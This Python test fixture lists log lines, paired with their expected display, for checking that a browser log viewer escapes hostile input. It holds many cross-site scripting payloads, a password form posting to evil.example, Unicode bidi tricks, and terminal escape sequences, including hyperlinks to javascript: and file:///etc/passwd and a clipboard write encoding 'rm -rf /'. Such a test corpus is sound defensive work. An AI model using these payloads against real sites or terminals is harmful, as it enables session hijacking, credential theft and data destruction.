"""Lines of logs that somebody wrote to become more than text in the browser of whoever reads them: LINES, pairs of what is sent (bytes, without a line
end) and what a reader has to see (text).

None of them is true of one browser or one page alone: they are what is tried against pages in general. Where a script runs after all it sets
window.pwned, and whatever loads something asks for a path with /pwned in it.
"""
RUN = "window.pwned=1"
TAGS = ("a abbr address applet area article aside audio base basefont bdo bgsound blink body br button canvas caption center col data datalist dd "
        "details dialog dir embed fieldset font form frame frameset h1 head header hr html iframe image img input isindex keygen label legend li link "
        "listing main map marquee math menu meta meter nav nobr noembed noframes noscript object ol optgroup option p param picture plaintext pre "
        "progress script section select slot source style sub summary svg table tbody td template textarea tfoot th title tr track tt ul var video "
        "wbr xmp").split()
EVENTS = ("abort animationend auxclick beforeinput begin blur canplay change click contextmenu copy cut dblclick drag drop ended error focus focusin "
          "hashchange input invalid keydown load loadstart message mouseenter mouseover paste pointerdown popstate readystatechange reset resize scroll "
          "select submit toggle touchstart transitionend unload wheel").split()


def same():
    """What is seen is what is sent: to a page these are letters."""
    yield from (f'<{tag} src="/pwned" href="javascript:{RUN}" onload="{RUN}" onerror="{RUN}" id=L1 class=badge style="color:red">' for tag in TAGS)
    yield from (f'"\'><img src=/pwned on{event}={RUN} autofocus tabindex=1>' for event in EVENTS)
    yield from (f"</{tag}><script>{RUN}</script>" for tag in ("code", "div", "main", "title", "style", "textarea", "script", "noscript", "body", "html", "a", "span"))
    yield from """\
<script>RUN</script>
<ScRiPt >RUN</sCrIpT >
<script/x>RUN</script>
<script src=/pwned></script>
<script\ttype="text/javascript">RUN</script>
<<script>RUN//<</script>
<script>RUN<!--
<!--<script>RUN</script>-->
--><script>RUN</script><!--
--!><script>RUN</script>
<![CDATA[<script>RUN</script>]]>
]]><script>RUN</script>
<!DOCTYPE html><html><body onload=RUN>
<?xml version="1.0"?><script xmlns="http://www.w3.org/1999/xhtml">RUN</script>
<!ENTITY x "<script>RUN</script>">&x;
<img src=x onerror=RUN>
<img src="x` `<script>RUN</script>"` `>
<img/src=`x`/onerror=RUN>
<img src='x'onerror='RUN'>
<svg/onload=RUN>
<svg><script href="data:,RUN"/></svg>
<svg><animate onbegin=RUN attributeName=x dur=1s>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>RUN</script></svg>#x"/></svg>
<svg><foreignObject><iframe srcdoc="<script>parent.RUN</script>"></iframe></foreignObject></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=RUN&gt;">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=RUN>
<noscript><p title="</noscript><img src=x onerror=RUN>">
<template><script>RUN</script></template>
<iframe src="javascript:parent.RUN"></iframe>
<iframe srcdoc="<script>parent.RUN</script>"></iframe>
<object data="data:text/html,<script>RUN</script>"></object>
<embed src="javascript:RUN">
<base href="http://evil.example/">
<link rel=stylesheet href=/pwned>
<style>@import '/pwned';*{color:red}</style>
<style>body{background:url(/pwned)}</style>
<meta http-equiv=refresh content="0;url=/pwned">
<meta http-equiv="Content-Security-Policy" content="script-src *">
<form action=http://evil.example><input name=password><button>
<input type=hidden name=csrf value=x>
<button formaction="javascript:RUN">
<details open ontoggle=RUN>
<video><source onerror=RUN></video>
<audio src=/pwned autoplay>
<a href="javascript:RUN">here</a>
<a href="java&#x09;script:RUN">here</a>
<a href=" &#14; javascript:RUN">here</a>
<a href="data:text/html;base64,PHNjcmlwdD4=">here</a>
<a href="vbscript:msgbox(1)">here</a>
<a id=L5 name=L5>here</a>
<p id=main class=skip style=position:fixed;inset:0>over all</p>
javascript:RUN
data:text/html,<script>RUN</script>
&lt;script&gt;RUN&lt;/script&gt;
&#60;script&#62;RUN&#60;/script&#62;
&#x3c;script&#x3e;RUN&#x3C;/script&#x3E;
&#x0003c&#0000060;&LT;&lt&NewLine;&Tab;&colon;&lpar;
&amp;lt;script&amp;gt;
&amp;amp;amp;
&nbsp;&shy;&zwj;&lrm;&rlm;&#8238;&#0;&#xD800;&#x110000;&notanentity;
& &a &; &# &#x &#x; &#99999999999;
%3Cscript%3ERUN%3C/script%3E
\\u003cscript\\u003eRUN\\u003c/script\\u003e
\\x3cscript\\x3e \\74script\\76
+ADw-script+AD4-RUN+ADw-/script+AD4-
{{7*7}} ${7*7} #{7*7} <%= 7*7 %> {% raw %} [[7*7]] @(7*7) {{constructor.constructor('RUN')()}}
`${RUN}`
';RUN//
";RUN//
\\";RUN//
'"><b>
' onmouseover='RUN
" onmouseover="RUN
x" id="L1" class="line error
</code></div><div class="line" id="L1"><code>not of this log</code></div>
</span></a></code>
<div hidden>
<div class="log"><div class="line"><code>
<span class="f1">red</span>
<time datetime="x">now</time>
expression(RUN)
url(javascript:RUN)
/* */ } body { display: none }
</style><script>RUN</script>
<x:script xmlns:x="http://www.w3.org/1999/xhtml">RUN</x:script>
<a/b/c/d>
<>
< script>
<-
<!
<?
</
</>
<1>
>>>>>>
a < b && b > c || d != "e"
if (a<b) { c = 'd'; } // <ok>
\\
\\\\server\\share
'
"
=
`
plain
   three blanks in front, three behind   |
r\u00e9sum\u00e9 \u20ac \u65e5\u672c\u8a9e \U0001f600 e\u0301
\uff1cscript\uff1eRUN\uff1c/script\uff1e
\u2039script\u203a \u02c2script\u02c3
\u05d0\u05d1\u05d2 <b> \u0627\u0628\u062c
the last of them""".replace("RUN", RUN).split("\n")


def shown_codes():
    """Invisible characters, and those that turn the order of others round: a reader sees which they are."""
    for code in (0x61C, 0x200E, 0x200F, *range(0x202A, 0x202F), *range(0x2066, 0x206A), 0x200B, 0x200C, 0x200D, 0x2028, 0x2029, 0x2060, 0x2061, 0xFEFF,
                 0xAD, 0x34F, 0x115F, 0x1160, 0x17B4, 0x180E, 0x3164, 0xFFA0, 0xFFF9, 0x1D173, 0xE0001, 0xE0041, 0xE007F, 0xE0100):
        yield f"a{chr(code)}<b>".encode(), f"a\\u{{{code:x}}}<b>"
    yield "gpj.\u202eexe.<script>".encode(), "gpj.\\u{202e}exe.<script>"
    yield "/*\u202e } \u2066if (admin)\u2069 \u2066 begin */".encode(), "/*\\u{202e} } \\u{2066}if (admin)\\u{2069} \\u{2066} begin */"
    yield "<\u200bscript>".encode(), "<\\u{200b}script>"


def dropped():
    """What a terminal does nothing visible for."""
    moves = {0x08, 0x09, 0x0A, 0x0B, 0x0C, 0x0D, 0x0E, 0x0F, 0x1B}
    for code in (*range(1, 32), 0x7F):
        if code not in moves:
            yield b"<b" + bytes([code]) + b">x", "<b>x"
    for code in (0x80, 0x81, 0x82, 0x83, 0x86 + 0x10, 0x99):
        yield b"<b" + chr(code).encode() + b">x", "<b>x"


def not_utf8():
    fffd = "\ufffd"
    yield b"a\xff<b>", f"a{fffd}<b>"
    yield b"\xc3<script>", f"{fffd}<script>"
    yield b"\xe2\x82<script>", f"{fffd}<script>"
    yield b"\xf0\x9f\x98<script>", f"{fffd}<script>"
    yield b"\xc0\xbcscript\xc0\xbe", f"{fffd * 2}script{fffd * 2}"
    yield b"\xe0\x80\xbcscript", f"{fffd * 3}script"
    yield b"\xed\xa0\x80\xed\xb0\x80", fffd * 6
    yield b"\xf4\x90\x80\x80<", f"{fffd * 4}<"
    yield b"\x80\x81<b>\xfe", f"{fffd * 2}<b>{fffd}"
    yield b"a\0<b>\0", f"a{fffd}<b>{fffd}"
    yield "<script>".encode("utf-16-le"), "".join(c + fffd for c in "<script>")


def terminals():  # the last, because a link that never ends is of the lines behind it as well, and escapes count as characters of a long line
    """Escapes: understood or taken out, and never a way round the escaping of what they are around."""
    yield b"\x1b[31m<script>\x1b[0m", "<script>"
    yield b"<\x1b[0mscript>", "<script>"
    yield b"<scr\x1b[1mipt>\x1b[m", "<script>"
    yield b"&\x1b[31mlt;", "&lt;"
    yield b"&#\x1b[31m60;", "&#60;"
    yield b"\x1b[38;5;999999999mx", "x"
    yield b"\x1b[38;2;1;2mx", "x"
    yield b'\x1b[1"onclick=x>mx', "nclick=x>mx"
    yield b"\x1b]0;<script>\x07x", "x"
    yield b"\x1b]0;<script>\x1b\\x", "x"
    yield b"\x1bP<script>\x1b\\x", "x"
    yield b"\x1b_<script>\x1b\\x", "x"
    yield b"\x1b^<script>\x1b\\x", "x"
    yield b"\x1bX<script>\x1b\\x", "x"
    yield b"\xc2\x9b31m<b>\xc2\x9bm", "<b>"
    yield b"\x1b[8m<hidden>\x1b[0m", "<hidden>"
    yield b"\x1b[30;40m<black on black>\x1b[0m", "<black on black>"
    yield b"\x1b]8;;javascript:window.pwned=1\x07here\x1b]8;;\x07", "here"
    yield b"\x1b]8;;JavaScript:window.pwned=1\x1b\\here\x1b]8;;\x1b\\", "here"
    yield b"\x1b]8;; javascript:window.pwned=1\x1b\\here\x1b]8;;\x1b\\", "here"
    yield b"\x1b]8;;data:text/html,<script>\x07here\x1b]8;;\x07", "here"
    yield b"\x1b]8;;file:///etc/passwd\x07here\x1b]8;;\x07", "here"
    yield b"\x1b]8;;//evil.example\x07here\x1b]8;;\x07", "here"
    yield b"\x1b]8;;/pwned\x07here\x1b]8;;\x07", "here"
    yield b'\x1b]8;;https://a.example/"onclick="window.pwned=1\x07here\x1b]8;;\x07', "here"
    yield b"\x1b]8;;https://a.example/'><script>window.pwned=1</script>\x07here\x1b]8;;\x07", "here"
    yield b"\x1b]8;id=<b>;https://a.example/\x07<b>here</b>\x1b]8;;\x07", "<b>here</b>"
    yield b"\x1b]8;;https://a.example/\x07never ended <b>", "never ended <b>"
    yield b"\x1b]1337;File=name=x;inline=1:PHN2Zz4=\x07x", "x"
    yield b"\x1b]52;c;cm0gLXJmIC8=\x07x", "x"
    yield b"<b>seen\r<i>over", "<i>over"
    yield b"\x1b[2K<b>", "<b>"
    yield b"\x1b[6n\x1b[c\x1b[?1049h<b>", "<b>"


def long_ones():
    """Of a line 4,000 characters are shown, and it is said that there are more."""
    yield b"<" * 3999 + b">", "<" * 3999 + ">"
    yield b"<b>" * 3000, ("<b>" * 1334)[:4000]
    yield b"&" * 100000, "&" * 4000
    yield ("<i>\u65e5" * 2000).encode(), ("<i>\u65e5" * 1000)


LINES = [(line.encode(), line) for line in same()] + [pair for part in (shown_codes, dropped, not_utf8, long_ones, terminals) for pair in part()]
